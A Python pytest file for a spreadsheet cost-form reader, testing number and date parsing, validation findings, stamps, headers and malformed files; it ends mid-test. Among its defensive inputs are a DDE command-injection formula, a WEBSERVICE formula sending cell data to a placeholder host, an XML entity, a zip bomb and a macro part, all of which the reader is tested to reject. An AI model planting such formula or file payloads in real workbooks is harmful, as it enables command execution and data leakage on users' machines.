import datetime as dt
import io
import pickle
import re
import time
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

from crm_xl.collection.collecting.second_count import compared, second_count, stated
from crm_xl.collection.reading.formula_hazards import hazard
from crm_xl.collection.reading.returned import Return, read_return
from crm_xl.data import rows
from crm_xl.engine.schema import columns
from crm_xl.engine.typed_values import Ambiguous, Marked, TypedNumber, read_date, read_number
from crm_xl.errors import ErrorValue
from crm_xl.xlsx.cells import read_cells
from crm_xl.xlsx.package import Package, WorkbookError
from tests.collection import made
from tests.collection.forms import Form, blank
from tests.collection.made import line

COSTS = list(columns("costs"))
PLACES = {key: i for i, key in enumerate(COSTS)}


def keys(returned: Return) -> list[str]:
    return [finding.key for finding in returned.everything]


def value(returned: Return, row: int, key: str) -> object:
    line = next(line for line in returned.costs if line.row == row)
    return line.values[COSTS.index(key)]


def at(returned: Return, cell: str) -> list[tuple[str, str]]:
    return [(f.key, f.severity) for f in returned.everything if f.cell == cell]


class TestNumbersTypedAsText:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("1,200.00", 1200),
            ("1200.-", 1200),
            ("1200,--", 1200),
            ("1.200,-", 1200),
            ("1200  ", 1200),
            ("\uff11\uff12\uff10\uff10", 1200),
            ("\uff11\uff0c\uff12\uff10\uff10\uff0e\uff15", 1200.5),
            ("1 200", 1200),
            ("1\u00a0200", 1200),
            ("1'200", 1200),
            ("(500)", -500),
            ("\uff08500\uff09", -500),
            ("500-", -500),
            ("\u2212500", -500),
            ("1,200.50", 1200.5),
            ("1.200,50", 1200.5),
            ("1,200,300", 1200300),
            ("1.200.300", 1200300),
            ("1.2", 1.2),
            ("0.125", 0.125),
            ("1234.500", 1234.5),
            ("1.5\u4e07", 15000),
            ("2\u4ebf", 200000000),
            ("1e5", 100000),
        ],
    )
    def test_a_text_that_can_mean_one_number_only_is_that_number(self, text, expected):
        assert read_number(text) == TypedNumber(expected)

    @pytest.mark.parametrize(
        ("text", "meanings"),
        [
            ("1.200", ("1.2", "1200")),
            ("1,200", ("1.2", "1200")),
            ("EUR 1,200", ("1.2", "1200")),
            ("USD 1.200", ("1.2", "1200")),
            ("1.200.-", ("1.2", "1200")),
            ("1,2", ("1.2", "12")),
            ("12.500", ("12.5", "12500")),
            ("0,125", ("0.125", "125")),
        ],
    )
    def test_a_text_that_may_mean_two_numbers_has_both(self, text, meanings):
        assert read_number(text) == Ambiguous(*meanings)

    @pytest.mark.parametrize(
        "text",
        [
            "",
            "-",
            "abc",
            "TBD",
            "\u5f85\u5b9a",
            "1200/yr",
            "12 00",
            "1,2,3",
            "nan",
            "inf",
            "--5",
            "(-5)",
            "1200-1500",
            "~5",
        ],
    )
    def test_what_is_no_number_is_none(self, text):
        assert read_number(text) is None

    @pytest.mark.parametrize(
        ("text", "codes"),
        [
            ("\u00a51 200", {"CNY", "JPY"}),
            ("\uffe51,200", {"CNY", "JPY"}),
            ("1200 CNY", {"CNY"}),
            ("\u4eba\u6c11\u5e01" + "1200" + "\u5143", {"CNY"}),
            ("US$1,200", {"USD"}),
            ("\u20ac 1200", {"EUR"}),
        ],
    )
    def test_a_sign_says_which_currencies_it_may_stand_for(self, text, codes):
        read = read_number(text)
        assert isinstance(read, TypedNumber)
        assert (read.value, read.currencies) == (1200, codes)

    @pytest.mark.parametrize(
        ("text", "mark"),
        [("5000\u00b2", "\u00b2"), ("5000\u2460", "\u2460"), ("5000\u2488", "\u2488"), ("\u00b95,000.00", "\u00b9"),
         ("1\u00bd", "\u00bd"), ("5000*", "*"), ("5000 \u2020", "\u2020")],
    )  # fmt: skip
    def test_a_mark_of_a_footnote_is_no_digit(self, text, mark):
        assert read_number(text) == Marked(mark)

    @pytest.mark.parametrize("text", ["m\u00b2", "\u2460", "*", "see \u00b9"])
    def test_a_mark_without_a_number_is_none(self, text):
        assert read_number(text) is None

    def test_a_percentage_is_a_hundredth(self):
        assert read_number("7\uff05") == TypedNumber(0.07, percent=True)

    @given(st.integers(1000, 10**14), st.sampled_from([",", " ", "'"]))
    def test_every_whole_number_with_its_thousands_marked_reads_back(self, number, mark):
        read = read_number(f"{number:,}".replace(",", mark))
        if mark == "," and number < 10**6:  # elsewhere one comma is that of the decimals
            assert isinstance(read, Ambiguous)
        else:
            assert read == TypedNumber(number)

    @given(st.text(max_size=30))
    def test_no_text_is_too_strange_to_be_looked_at(self, text):
        read_number(text)
        read_date(text)


class TestDatesTypedAsText:
    @pytest.mark.parametrize(
        "text",
        [
            "2027-03-01", "2027/3/1", "2027.3.1", "20270301", "2027\u5e743\u67081\u65e5", "2027\u5e743\u6708",
            "2027 \u5e74 3 \u6708 1 \u65e5", "\u4e8c\u3007\u4e8c\u4e03\u5e74\u4e09\u6708\u4e00\u65e5",
            "\uff12\uff10\uff12\uff17\uff0f\uff13\uff0f\uff11", "1 March 2027", "1 Mar 2027", "March 1, 2027",
            "March 2027", "1st of March 2027", "2027-03-01 00:00:00",
        ],
    )  # fmt: skip
    def test_english_and_chinese_ways_are_the_first_of_march(self, text):
        assert read_date(text) == dt.date(2027, 3, 1)

    def test_a_day_above_twelve_tells_day_from_month(self):
        assert read_date("25/12/2027") == read_date("12/25/2027") == dt.date(2027, 12, 25)

    def test_the_third_of_the_third_is_the_same_both_ways(self):
        assert read_date("03/03/2027") == dt.date(2027, 3, 3)

    @pytest.mark.parametrize("text", ["03/04/2027", "3.4.2027", "03-04-2027"])
    def test_day_and_month_that_may_be_taken_for_each_other_are_both_given(self, text):
        assert read_date(text) == Ambiguous("2027-03-04", "2027-04-03")

    @pytest.mark.parametrize("text", ["2027-02-30", "1-Mar-27", "Q1 2027", "soon", "2027", "30/30/2027"])
    def test_what_is_no_date_is_none(self, text):
        assert read_date(text) is None


class TestALine:
    def test_a_blank_form_has_no_lines_and_no_findings(self, tmp_path):
        returned = read_return(Form().save(tmp_path))
        assert (returned.costs, returned.benefits, returned.everything) == ((), (), ())
        assert returned.stamp is not None
        assert (returned.stamp.department, returned.language) == ("Sales", "en")
        assert dict(returned.sheets) == {"costs": "Costs", "benefits": "Benefits", "assumptions": "Assumptions"}

    def test_its_values_stand_in_the_order_of_the_schema_with_its_row(self, tmp_path):
        form = Form().line(8, component="Licence", item="Seats", quantity=3.0, unit_cost=5.5, start=46388.0)
        returned = read_return(form.save(tmp_path))
        expected = dict.fromkeys(COSTS) | {
            "component": "Licence", "item": "Seats", "department": "Sales", "quantity": 3.0, "unit_cost": 5.5,
            "start": dt.date(2027, 1, 1),
        }  # fmt: skip
        assert [(line.row, line.values, line.findings) for line in returned.costs] == [
            (8, tuple(expected.values()), ())
        ]

    def test_benefits_are_read_too(self, tmp_path):
        form = Form().line(6, table="benefits", benefit="Retention", amount="2 500", frequency="annual")
        returned = read_return(form.save(tmp_path))
        amount = list(columns("benefits")).index("amount")
        assert [(line.row, line.values[amount]) for line in returned.benefits] == [(6, 2500.0)]

    def test_a_chinese_form_is_read_in_chinese(self, tmp_path):
        form = Form("zh").line(6, sheet="\u8d39\u7528", component="\u8f6f\u4ef6\u8d2d\u4e70", amount="1.200")
        returned = read_return(form.save(tmp_path))
        (finding,) = returned.everything
        assert returned.language == "zh"
        assert finding.text("zh").startswith("\u91d1\u989d\uff1a1.200 ")

    def test_a_return_can_be_sent_to_another_process(self, tmp_path):
        returned = read_return(Form().line(6, component="Licence", amount="1,200.00").save(tmp_path))
        assert pickle.loads(pickle.dumps(returned)) == returned

    def test_dates_count_from_1904_where_the_workbook_says_so(self, tmp_path):
        form = Form().line(6, component="Licence", amount=1.0, start=46388.0 - 1462)
        form.enter("Assumptions", {"C6": 46388.0 - 1462})
        form.change_part("xl/workbook.xml", b"<workbookPr ", '<workbookPr date1904="1" ')
        returned = read_return(form.save(tmp_path))
        assert value(returned, 6, "start") == dt.date(2027, 1, 1)
        assert keys(returned) == ["since_1904"]


class TestWhatIsWrongWithALine:
    def test_a_number_as_text_is_read_and_told(self, tmp_path):
        returned = read_return(Form().line(6, component="Licence", amount="\u00a51 200").save(tmp_path))
        assert value(returned, 6, "amount") == 1200.0
        assert at(returned, "H6") == [("text_number", "note")]
        assert not returned.costs[0].rejected

    def test_an_ambiguous_number_keeps_its_line_out_and_says_why(self, tmp_path):
        returned = read_return(Form().line(6, component="Licence", amount="1.200").save(tmp_path))
        assert returned.costs[0].rejected
        assert not returned.rejected
        assert "may mean 1.2 or 1200" in returned.costs[0].findings[0].text("en")

    def test_a_language_never_decides_an_ambiguity(self, tmp_path):
        for language, sheet, component in (("en", "Costs", "Licence"), ("zh", "\u8d39\u7528", "\u57f9\u8bad")):
            form = Form(language).line(6, sheet=sheet, component=component, amount=1.0, start="03/04/2027")
            assert at(read_return(form.save(tmp_path)), "M6") == [("ambiguous_date", "blocks")]

    @pytest.mark.parametrize(
        ("amount", "currency", "good"),
        [
            ("$5", None, False),
            ("$5", "USD", True),
            ("\u00a55", None, True),
            ("\u00a55", "USD", False),
            ("5 EUR", "CNY", False),
        ],
    )
    def test_a_sign_must_be_that_of_the_currency_of_its_line(self, tmp_path, amount, currency, good):
        form = Form().line(6, component="Licence", amount=amount, currency=currency)
        returned = read_return(form.save(tmp_path))
        assert at(returned, "H6") == [("text_number", "note") if good else ("other_currency", "blocks")]

    def test_what_the_engine_finds_is_told_in_its_words(self, tmp_path):
        form = Form().line(6, component="Licence", amount=1.0, frequency="weekly").line(7, amount=5.0)
        form.line(8, component="Licence", amount=7.0, quantity=2.0, unit_cost=3.0)
        returned = read_return(form.save(tmp_path))
        texts = {f.cell: f.text("en") for f in returned.everything}
        assert texts["L6"].startswith('Frequency: found "weekly"; expected one of: one-off, monthly')
        assert "a component for the line" in texts["B7"]
        assert "both are given and differ (6)" in texts["H8"]
        assert all(line.rejected for line in returned.costs)

    def test_a_currency_without_a_rate_blocks_and_one_with_a_rate_does_not(self, tmp_path):
        form = Form().line(6, component="Licence", amount=1.0, currency="EUR")
        form.line(7, component="Licence", amount=1.0, currency="USD")
        returned = read_return(form.save(tmp_path))
        assert [line.rejected for line in returned.costs] == [True, False]

    def test_a_line_without_a_price_is_told_and_not_taken_for_nothing(self, tmp_path):
        returned = read_return(Form().line(6, component="Licence").save(tmp_path))
        assert [(f.key, f.severity) for f in returned.everything] == [("problem_note", "note")]
        assert value(returned, 6, "amount") is None

    def test_an_error_in_a_cell_blocks_its_line(self, tmp_path):
        returned = read_return(Form().line(6, component="Licence", amount=ErrorValue.NA).save(tmp_path))
        assert at(returned, "H6") == [("problem", "blocks")]

    @pytest.mark.parametrize("text", ["#N/A waiting for data", "Traceback (most recent call last):", "#BUSY!"])
    def test_what_an_add_in_left_behind_blocks_its_line(self, tmp_path, text):
        returned = read_return(Form().line(6, component="Licence", amount=1.0, vendor=text).save(tmp_path))
        assert at(returned, "E6") == [("broken_text", "blocks")]

    def test_numbers_at_the_edge_are_never_summed(self, tmp_path):
        form = Form().line(6, component="Licence", amount=1e308).line(7, component="Licence", amount="NaN")
        form.line(8, component="Licence", amount="1e300").line(9, component="Licence", quantity=-1.0, unit_cost=5.0)
        form.line(10, component="Licence", amount=7.25)
        form.change("Costs", rb'(<c r="H10"[^>]*><v>)7.25', "\\1nan")
        returned = read_return(form.save(tmp_path))
        assert [line.rejected for line in returned.costs] == [True] * 5
        assert value(returned, 10, "amount") is ErrorValue.NUM

    def test_an_identifier_that_lost_its_digits_is_told(self, tmp_path):
        returned = read_return(
            Form().line(6, component="Licence", amount=1.0, vendor=6222021234567890.0).save(tmp_path)
        )
        assert at(returned, "E6") == [("digits_lost", "note")]

    def test_the_same_line_twice_is_told_with_both_rows(self, tmp_path):
        form = Form()
        for row in (6, 9):
            form.line(row, component="Licence", item="Seats", amount=5.0)
        returned = read_return(form.line(10, component="Licence", item="Seats", amount=6.0).save(tmp_path))
        (finding,) = returned.everything
        assert (finding.key, finding.cell, finding.severity) == ("duplicate", "B9:AE9", "note")
        assert "row 6" in finding.text("en")

    def test_another_department_may_not_be_entered(self, tmp_path):
        form = Form().line(6, component="Licence", amount=5.0, department="HR")
        form.line(7, component="Licence", amount=5.0, department=" SALES ")
        returned = read_return(form.save(tmp_path))
        assert [line.rejected for line in returned.costs] == [True, False]
        assert at(returned, "D6") == [("other_department", "blocks")]

    def test_a_row_of_totals_is_listed_and_never_summed(self, tmp_path):
        form = Form().line(6, component="Licence", amount=5.0).line(7, component="Grand total", amount=5.0)
        returned = read_return(form.save(tmp_path))
        assert [(line.row, line.rejected) for line in returned.costs] == [(6, False), (7, True)]
        assert at(returned, "B7") == [("totals_row", "blocks")]


def count_from_1904(path: Path) -> None:
    """Mark a workbook as one in which day 0 is the first of 1904: its dates are then 1,462 days later."""
    form = Package.open(path.read_bytes(), path.name)
    book = form.parts["xl/workbook.xml"].replace(b"<workbookPr ", b'<workbookPr date1904="1" ')
    path.write_bytes(form.to_bytes({"xl/workbook.xml": book}))


class TestDatesWhereNumbersBelong:
    @pytest.mark.parametrize(
        "shows",
        [
            "yyyy-mm-dd",
            'yyyy"\u5e74"m"\u6708"d"\u65e5"',
            14,
            31,  # the long date of a Chinese Excel, which writes no code for it
            "[<2201]0;yyyy-mm-dd",  # the form's own columns of dates: a date that was copied from there
        ],
    )
    def test_a_date_is_never_counted_as_the_number_behind_it(self, tmp_path, shows):
        day = dt.date(2027, 1, 1)
        lines = [
            line(amount=100.0),
            line("Training", amount=day),
            line("Training", quantity=2.0, unit_cost=day),
            line("Training", 50.0, price_growth=day),
        ]
        path = made.returned(tmp_path / "sales.xlsx", lines, date_format=shows)
        returned = read_return(path)
        told = [finding for finding in returned.everything if finding.blocks]
        assert [finding.key for finding in told] == ["date_number"] * 3
        assert [line.rejected for line in returned.costs] == [False, True, True, True]
        letters = [get_column_letter(2 + COSTS.index(key)) for key in ("amount", "unit_cost", "price_growth")]
        assert [f.cell for f in told] == [f"{letter}{row}" for letter, row in zip(letters, (7, 8, 9), strict=True)]
        for finding in told:
            assert (finding.sheet, finding.found) == ("Costs", "2027-01-01")
            assert finding.expected == {"en": "a number", "zh": "\u6570\u5b57"}
            assert "46388" in finding.text("en")
            assert "2027-01-01" in finding.text("zh")
        second = compared(second_count(path.read_bytes(), returned).amounts["costs"], "costs", returned.costs)
        assert (second.booked.stated, second.differing) == (4, ())
        assert 46388.0 not in [stated(line.values, PLACES, "costs")[1] for line in returned.costs]

    def test_a_time_of_day_is_none_either(self, tmp_path):
        path = made.returned(tmp_path / "sales.xlsx", [line(amount=dt.datetime(2027, 1, 1, 12, 30))])
        form = Package.open(path.read_bytes(), "sales.xlsx")
        part = next(part for part in form.parts if b"46388.52" in form.parts[part])
        path.write_bytes(form.to_bytes({part: re.sub(rb"46388\.52\d+", b"0.5", form.parts[part])}))
        [finding] = [finding for finding in read_return(path).everything if finding.blocks]
        assert (finding.key, finding.found) == ("date_number", "12:00:00")

    @pytest.mark.parametrize("since_1904", [False, True])
    def test_columns_of_dates_take_dates_serial_numbers_and_years(self, tmp_path, since_1904):
        stored = dt.date(2022, 12, 31) if since_1904 else dt.date(2027, 1, 1)
        serial = 44926.0 if since_1904 else 46388.0
        lines = [line(amount=1.0, start=start) for start in (stored, serial, 2.0, 2028.0)]
        path = made.returned(tmp_path / "sales.xlsx", lines)
        if since_1904:
            count_from_1904(path)
        returned = read_return(path)
        day = dt.date(2027, 1, 1)
        assert [value(returned, row, "start") for row in (6, 7, 8, 9)] == [day, day, 2.0, 2028.0]
        assert not any(line.rejected for line in returned.costs)

    def test_a_date_in_a_workbook_that_counts_from_1904_is_told_as_that_date(self, tmp_path):
        path = made.returned(tmp_path / "sales.xlsx", [line(amount=dt.date(2022, 12, 31))])
        count_from_1904(path)
        [finding] = [finding for finding in read_return(path).everything if finding.blocks]
        assert (finding.key, finding.found) == ("date_number", "2027-01-01")
        assert "44926" in finding.text("en")

    @pytest.mark.parametrize("shows", ["#,##0.00", '0.0" RMB"', "[Red]0", "@", "[$\u00a5-804]#,##0.00", 4, 39])
    def test_formats_that_only_look_like_those_of_dates_do_no_harm(self, tmp_path, shows):
        path = made.returned(tmp_path / "sales.xlsx", [line(amount=dt.date(2027, 1, 1))], date_format=shows)
        returned = read_return(path)
        assert (value(returned, 6, "amount"), returned.costs[0].rejected) == (46388.0, False)


class TestFormulasWhereValuesBelong:
    def test_a_formula_counts_with_its_value_and_is_told(self, tmp_path):
        form = Form().line(6, component="Licence").formula("Costs", "H6", "SUM(1,2)", "3")
        returned = read_return(form.save(tmp_path))
        assert value(returned, 6, "amount") == 3.0
        assert [f.text("en") for f in returned.everything] == [
            "Amount: a formula stands where a value belongs, =SUM(1,2); its value 3 is counted"
        ]

    @pytest.mark.parametrize(
        ("formula", "key"),
        [
            ("[1]Prices!$B$2*1.1", "formula_external"),
            ("cmd|'/c calc'!A0", "formula_dde"),
            ('WEBSERVICE("http://x.example/"&amp;B6)', "formula_reaching"),
            ("'[Book 2.xlsx]Sheet 1'!A1", "formula_external"),
        ],
    )
    def test_a_formula_that_reaches_outside_blocks_its_line(self, tmp_path, formula, key):
        form = Form().line(6, component="Licence").formula("Costs", "H6", formula, "3")
        assert at(read_return(form.save(tmp_path)), "H6") == [(key, "blocks")]

    def test_a_formula_that_was_never_calculated_blocks_its_line(self, tmp_path):
        form = Form().line(6, component="Licence").formula("Costs", "H6", "1+1", None)
        (line,) = read_return(form.save(tmp_path)).costs
        assert [(f.key, f.severity, f.cell) for f in line.findings] == [("formula_no_value", "blocks", "H6")]

    def test_a_formula_that_follows_another_reaches_as_far(self, tmp_path):
        form = Form().line(6, component="Licence").line(7, component="Licence")
        form.change(
            "Costs", rb'<c r="H6"( s="\d+")/>', '<c r="H6"\\1><f t="shared" ref="H6:H7" si="0">[1]A!B1</f><v>1</v></c>'
        )
        form.change("Costs", rb'<c r="H7"( s="\d+")/>', '<c r="H7"\\1><f t="shared" si="0"/><v>2</v></c>')
        assert at(read_return(form.save(tmp_path)), "H7") == [("formula_external", "blocks")]

    def test_no_formula_of_the_form_itself_reaches_outside(self):
        package = Form().package
        for part, xml in package.parts.items():
            if part.startswith("xl/worksheets/sheet"):
                found = read_cells(xml, ("",) * 5000, sheet="", file="", part=part).formulas
                assert not [formula for formula in found.values() if hazard(formula)]


class TestNothingIsLost:
    def test_lines_below_the_table_are_read_and_rejected(self, tmp_path):
        returned = read_return(Form().enter("Costs", {"B30": "Licence", "H30": 700.0}).save(tmp_path))
        assert [(line.row, line.values[COSTS.index("amount")], line.rejected) for line in returned.costs] == [
            (30, 700.0, True)
        ]

    def test_numbers_beside_and_above_the_table_are_told_with_their_place(self, tmp_path):
        form = Form().line(6, component="Licence", amount=1.0).enter("Costs", {"AI6": 5.0, "K3": "1,500"})
        returned = read_return(form.save(tmp_path))
        assert [(f.cell, f.severity, f.found) for f in returned.strays] == [
            ("K3", "blocks", "1,500"),
            ("AI6", "blocks", "5"),
        ]
        assert not returned.costs[0].rejected

    def test_a_formula_beside_the_table_is_only_a_note(self, tmp_path):
        form = Form().enter("Costs", {"AI6": 0.0}).formula("Costs", "AI6", "SUM(H6:H9)", "4")
        assert [f.severity for f in read_return(form.save(tmp_path)).strays] == ["note"]

    @pytest.mark.parametrize("header", ["Sum", "Total amount"])
    def test_a_renamed_column_of_amounts_leaves_a_sum_that_reconciles(self, tmp_path, header):
        form = Form().line(6, component="Licence", quantity=2.0, unit_cost=30.0).enter("Costs", {"H5": header})
        path = form.save(tmp_path)
        second = second_count(path.read_bytes(), read_return(path)).amounts["costs"]
        assert second == {6: 60.0}
        assert compared(second, "costs", read_return(path).costs).differing == ()

    def test_amounts_under_a_header_that_nobody_knows_are_told(self, tmp_path):
        form = Form().line(6, component="Licence", amount=12.5).line(7, component="Licence", amount=2.0)
        form.enter("Costs", {"H5": "Geldbetrag"})
        returned = read_return(form.save(tmp_path))
        assert [(f.key, f.cell, f.severity) for f in returned.strays] == [("unknown_column", "H6:H7", "blocks")]

    def test_lines_on_an_added_sheet_are_told(self, tmp_path):
        form = Form().line(6, component="Licence", amount=1.0)
        form.change_part("xl/workbook.xml", b"</sheets>", '<sheet name="More" sheetId="99" r:id="rId99"/></sheets>')
        form.change_part(
            "xl/_rels/workbook.xml.rels",
            b"</Relationships>",
            '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
            ' Target="worksheets/more.xml"/></Relationships>',
        )
        form.parts["xl/worksheets/more.xml"] = form.text(form.part("Costs"))
        returned = read_return(form.save(tmp_path))
        assert [(f.key, f.sheet, dict(f.details)) for f in returned.strays] == [
            ("other_table", "More", {"count": 1, "total": "1.00"})
        ]

    def test_hidden_and_filtered_lines_are_counted_and_told(self, tmp_path):
        form = Form().line(7, component="Licence", amount=1.0).line(8, component="Training", amount=2.0)
        form.change("Costs", rb'<row r="7"', '<row hidden="1" r="7"')
        returned = read_return(form.save(tmp_path))
        assert [(f.key, f.cell) for f in returned.everything] == [("hidden_rows", "7:7")]
        filtered = '<autoFilter ref="B5:W25"><filterColumn colId="0"/></autoFilter>'
        form.change_part("xl/tables/table1.xml", rb"<autoFilter [^>]*/>", filtered)
        assert keys(read_return(form.save(tmp_path))) == ["filtered_rows"]

    def test_a_hidden_column_with_amounts_is_told(self, tmp_path):
        form = Form().line(7, component="Licence", amount=1.0)
        form.change("Costs", b"<cols>", '<cols><col min="8" max="8" width="9" hidden="1"/>')
        assert [(f.key, f.cell) for f in read_return(form.save(tmp_path)).everything] == [("hidden_column", "H5")]

    def test_merged_cells_are_told(self, tmp_path):
        form = Form().line(7, component="Licence", amount=1.0)
        form.change(
            "Costs",
            b"</sheetData>(<sheetProtection[^>]*>)?",
            '</sheetData>\\1<mergeCells><mergeCell ref="B7:B8"/></mergeCells>',
        )
        assert [(f.key, f.cell) for f in read_return(form.save(tmp_path)).everything] == [("merged", "B7:B8")]

    @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(st.lists(st.tuples(st.integers(1, 40), st.integers(1, 40)), min_size=1, max_size=12, unique=True))
    def test_every_number_anywhere_on_the_sheet_is_in_a_line_or_told(self, tmp_path, places):
        from crm_xl.xlsx.references import cell_name

        # The headers; what the form computes.
        places = [(r, c) for r, c in places if r != 5 and c != 32 and (r, c) != (3, 2)]
        form = Form().enter("Costs", {cell_name(r, c): 1000.0 + i for i, (r, c) in enumerate(places)})
        returned = read_return(form.save(tmp_path))
        in_lines = {v for line in returned.costs for v in line.values if isinstance(v, float)}
        told = {float(piece) for f in returned.strays for piece in str(f.found).split(", ")}
        assert in_lines | told == {1000.0 + i for i in range(len(places))}


class TestHeaders:
    def book(self, tmp_path: Path, headers: list[str], *lines: list[object], sheet: str = "Costs") -> Path:
        path = tmp_path / "own.xlsx"
        with xlsxwriter.Workbook(path) as workbook:
            page = workbook.add_worksheet(sheet)
            page.write_row(0, 0, ["Our costs"])
            for i, row in enumerate([headers, *lines], 2):
                page.write_row(i, 0, row)
        return path

    @pytest.mark.parametrize(
        "headers",
        [
            ["Component", "Amount", "Vendor"],
            ["\u8d39\u7528\u7c7b\u522b", "\u91d1\u989d", "\u4f9b\u5e94\u5546"],
            [" component *", "AMOUNT (CNY)", "Supplier"],
            ["\u7c7b\u522b", "\u8d39\u7528\u91d1\u989d", "\u5382\u5546"],
        ],
    )
    def test_columns_are_found_in_either_language_and_by_other_words(self, tmp_path, headers):
        returned = read_return(self.book(tmp_path, headers, ["Licence", 5, "A"], [], ["Training", 6, "B"]))
        found = [tuple(value(returned, row, key) for key in ("component", "amount", "vendor")) for row in (4, 6)]
        assert found == [("Licence", 5.0, "A"), ("Training", 6.0, "B")]
        assert len(returned.costs) == 2

    def test_columns_in_another_order_are_read_and_told(self, tmp_path):
        returned = read_return(self.book(tmp_path, ["Amount", "Component"], [5, "Licence"]))
        assert value(returned, 4, "amount") == 5.0
        assert "columns_moved" in keys(returned)

    def test_a_renamed_header_is_read_and_told(self, tmp_path):
        returned = read_return(self.book(tmp_path, ["Component", "Lump sum"], ["Licence", 5]))
        (finding,) = [f for f in returned.findings if f.key == "header_renamed"]
        assert (finding.found, finding.cell) == ("Lump sum", "B3")
        assert value(returned, 4, "amount") == 5.0

    def test_a_renamed_sheet_is_read_and_told(self, tmp_path):
        returned = read_return(self.book(tmp_path, ["Component", "Amount"], ["Licence", 5], sheet="Kosten"))
        assert [line.row for line in returned.costs] == [4]
        assert "sheet_renamed" in keys(returned)

    def test_a_workbook_without_a_cost_table_is_rejected(self, tmp_path):
        returned = read_return(self.book(tmp_path, ["Name", "Money"], ["Licence", 5]))
        assert returned.rejected
        assert {"no_stamp", "no_costs"} <= set(keys(returned))


class TestTheStamp:
    def test_a_form_that_was_not_sent_out_is_rejected_and_read(self, tmp_path):
        path = Path(__file__).parents[2] / "workbooks" / "crm_example_en.xlsx"
        returned = read_return(path)
        assert "no_stamp" in keys(returned)
        assert len(returned.costs) == len(rows("example_costs"))

    def test_another_template_is_rejected(self, tmp_path):
        returned = read_return(Form().stamped(template="travel").save(tmp_path))
        assert [(f.key, f.severity, f.found) for f in returned.findings] == [("other_template", "blocks", "travel")]

    def test_copies_of_the_stamp_that_disagree_are_rejected(self, tmp_path):
        form = Form().change_part("docProps/custom.xml", b">Sales<", ">HR<")
        returned = read_return(form.save(tmp_path))
        assert returned.rejected
        assert returned.stamp is None
        assert "HR" in returned.findings[0].text("en")

    def test_a_later_form_is_rejected_with_what_to_do(self, tmp_path):
        returned = read_return(Form().stamped(schema=2).save(tmp_path))
        (finding,) = returned.findings
        assert (finding.key, finding.severity) == ("newer_schema", "blocks")
        assert "Install" in finding.advice("en")

    def test_an_earlier_form_is_read_by_its_headers_and_told(self, tmp_path, monkeypatch):
        monkeypatch.setattr("crm_xl.collection.reading.returned.SCHEMA_VERSION", 2)
        form = Form().line(6, component="Licence", amount=5.0, vendor="A").enter("Costs", {"E5": "Supplier"})
        returned = read_return(form.save(tmp_path))
        assert not returned.rejected
        assert value(returned, 6, "vendor") == "A"
        assert keys(returned) == ["older_schema", "header_renamed"]

    def test_a_version_that_never_was_is_rejected(self, tmp_path):
        assert keys(read_return(Form().stamped(schema=0).save(tmp_path))) == ["unknown_schema"]

    def test_assumptions_that_were_changed_are_told_and_not_used(self, tmp_path):
        form = Form().line(6, component="Licence", amount=5.0, start=46388.0)
        form.enter("Assumptions", {"C6": 47000.0})
        returned = read_return(form.save(tmp_path))
        assert [(f.key, f.severity, f.cell, f.expected) for f in returned.everything] == [
            ("assumption_changed", "note", "C6", {"en": "2027-01-01", "zh": "2027-01-01"})
        ]

    def test_another_reporting_currency_rejects_the_workbook(self, tmp_path):
        returned = read_return(Form().enter("Assumptions", {"C8": "USD"}).save(tmp_path))
        assert [(f.key, f.severity) for f in returned.findings] == [("assumption_changed", "blocks")]


class TestFilesThatCannotBeRead:
    def one(self, path: Path) -> str:
        returned = read_return(path)
        (finding,) = returned.findings
        assert finding.severity == "blocks"
        assert returned.rejected
        assert returned.costs == ()
        return finding.text("en")

    def written(self, tmp_path: Path, data: bytes, name: str = "x.xlsx") -> Path:
        path = tmp_path / name
        path.write_bytes(data)
        return path

    @pytest.mark.parametrize(
        ("data", "words"),
        [
            (b"", "is empty"),
            (b"\x00" * 500, "is not an Excel workbook"),
            (b"PK\x03\x04 broken", "is cut off"),
            (bytes.fromhex("D0CF11E0A1B11AE1") + "Workbook".encode("utf-16-le"), "old .xls format"),
            (bytes.fromhex("D0CF11E0A1B11AE1") + "EncryptedPackage".encode("utf-16-le"), "password"),
        ],
    )
    def test_what_is_no_workbook_is_one_finding(self, tmp_path, data, words):
        assert words in self.one(self.written(tmp_path, data))

    def test_a_file_that_is_cut_off_is_one_finding(self, tmp_path):
        assert "cut off" in self.one(self.written(tmp_path, blank()[:20_000]))

    def test_a_file_that_is_not_there_is_one_finding(self, tmp_path):
        assert "no such file" in self.one(tmp_path / "none.xlsx")

    def test_a_folder_is_one_finding(self, tmp_path):
        assert "is a folder" in self.one(tmp_path)

    def test_macros_are_one_finding_whatever_the_file_is_called(self, tmp_path):
        form = Form().line(6, component="Licence", amount=5.0)
        form.parts["xl/vbaProject.bin"] = b"x"
        assert "macros" in self.one(form.save(tmp_path, "sales.xlsx"))

    def test_a_binary_workbook_is_one_finding(self, tmp_path):
        assert ".xlsb" in self.one(self.written(tmp_path, Form().package.to_bytes({"xl/workbook.bin": b"x"})))

    def test_a_document_type_is_one_finding(self, tmp_path):
        form = Form()
        form.change("Costs", rb"\?>", '?><!DOCTYPE x [<!ENTITY a "b">]>')
        assert "document type" in self.one(form.save(tmp_path))

    def test_a_bomb_is_one_finding(self, tmp_path):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("xl/sharedStrings.xml", b" " * 30_000_000)
        assert "unpacks to more" in self.one(self.written(tmp_path, buffer.getvalue()))

    def test_a_sheet_with_broken_values_is_one_finding(self, tmp_path):
        form = Form().line(6, component="Licence", amount=7.25).change("Costs", b"<v>7.25</v>", "<v>7,25</v>")
        assert "Costs!H6" in self.one(form.save(tmp_path))

    @pytest.mark.parametrize("encoding", ["UTG-8", "cp932"])
    def test_an_encoding_that_nobody_knows_is_one_finding(self, tmp_path, encoding):
        """Found by fuzzing: one bit of the name turned over, and the parser looked for a codec."""
        form = Form().line(6, component="Licence", amount=7.25).change("Costs", b"UTF-8", encoding)
        assert "xl/worksheets/sheet" in self.one(form.save(tmp_path))

    def test_a_cell_far_away_is_told_with_its_place(self, tmp_path):
        returned = read_return(Form().enter("Costs", {"AZ100000": 5.0}).save(tmp_path))
        assert [f.cell for f in returned.strays] == ["AZ100000"]

    def test_a_cell_at_the_end_of_the_sheet_is_one_finding(self, tmp_path):
